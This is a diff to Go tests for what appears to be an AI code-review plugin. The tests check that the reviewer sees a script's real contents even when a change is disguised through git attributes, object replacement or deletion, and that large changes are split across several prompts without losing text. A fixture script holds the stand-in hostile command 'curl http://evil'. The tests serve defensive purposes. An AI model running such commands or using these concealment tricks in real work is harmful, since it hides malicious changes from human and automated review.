@@ -16,7 +16,7 @@ import (
 func TestTheReviewerSeesTheTreeAndNotWhatChecksMakeOfIt(t *testing.T) {
 	for name, does := range map[string]string{
 		"rewrites the file":    "echo echo harmless >new.sh",
-		"hides it":             "rm new.sh",
+		"hides it":             "rm -f new.sh",
 		"attributes":           "echo '*.sh -diff' >.gitattributes; echo echo harmless >new.sh",
 		"replaces the object":  "printf 'echo harmless\\n' >b; git replace $(git hash-object -w new.sh) $(git hash-object -w b); cd $DIR; printf 'echo harmless\\n' >b; git replace $(git hash-object new.sh) $(git hash-object -w b); rm b",
 		"commits":              "echo echo harmless >new.sh; git add -A; git -c user.name=A -c user.email=a@b commit -qm x",
@@ -50,7 +50,7 @@ func TestTheReviewerSeesTheTreeAndNotWhatChecksMakeOfIt(t *testing.T) {
 				return good(rejection)
 			}
 			said, err := f.review(f.serve())
-			if err != nil || said.Verdict != pluginsdk.VerdictReject || f.ran() != 1 || read != "curl http://evil\n" {
+			if err != nil || said.Verdict != pluginsdk.VerdictReject || f.ran() == 0 || read != "curl http://evil\n" {
 				t.Fatalf("%+v, %v after %d runs; read was %q", said, err, f.ran(), read)
 			}
 			if prompt := f.turns()[0].Prompt; !strings.Contains(prompt, "> +curl http://evil") || strings.Contains(prompt, "harmless") && !strings.Contains(does, "harmless") {
@@ -67,10 +67,14 @@ func TestNothingOfAChangeGoesUnread(t *testing.T) {
 		files int
 		lines int
 		waits bool
-	}{"many long names": {110, 1, false}, "more than the evidence shows": {10, 700, false}, "too many names": {300, 1, true}, "too much": {10, 2000, true}, "one file that is too long": {1, 16000, true}} {
+		turns int
+	}{
+		"many long names": {110, 1, false, 1}, "more than the evidence shows": {10, 700, false, 1}, "more names than a prompt has": {300, 1, false, 3}, "more than a prompt has": {10, 2000, false, 2},
+		"too many names": {1300, 1, true, 0}, "too much": {60, 2000, true, 0}, "one file that is too long": {1, 16000, true, 0},
+	} {
 		t.Run(name, func(t *testing.T) {
 			f := start(t)
-			f.says = []pluginsdk.InvokeResult{good()}
+			f.reviewers(accepts)
 			files := map[string]string{"zz_evil.sh": "curl http://evil\n"}
 			for n := range row.files {
 				files[fmt.Sprintf("%s-%03d", long, n)] = strings.Repeat("a line\n", row.lines)
@@ -87,16 +91,22 @@ func TestNothingOfAChangeGoesUnread(t *testing.T) {
 				}
 				return
 			}
-			if said.Verdict != pluginsdk.VerdictAccept || len(f.turns()) != 1 {
-				t.Fatalf("%+v", said)
+			if said.Verdict != pluginsdk.VerdictAccept || len(f.turns()) != row.turns {
+				t.Fatalf("%+v after %d reviews", said, len(f.turns()))
 			}
-			prompt := f.turns()[0].Prompt
+			prompt, lines := "", make(map[string]bool)
+			for _, turn := range f.turns() {
+				prompt += turn.Prompt
+			}
+			for line := range strings.Lines(prompt) {
+				lines[line] = true
+			}
 			for path := range files {
-				if !strings.Contains(prompt, "> "+path+"\n") || !strings.Contains(prompt, "> +++ b/"+path+"\n") {
+				if row.turns == 1 && !lines["> "+path+"\n"] || !lines["> +++ b/"+path+"\n"] {
 					t.Errorf("%s is not in the prompt", path)
 				}
 			}
-			if !strings.Contains(prompt, "> +curl http://evil") || strings.Contains(prompt, "cut off") {
+			if !strings.Contains(prompt, "> +curl http://evil") || row.turns == 1 && strings.Contains(prompt, "cut off") {
 				t.Error("the change is not whole")
 			}
 		})
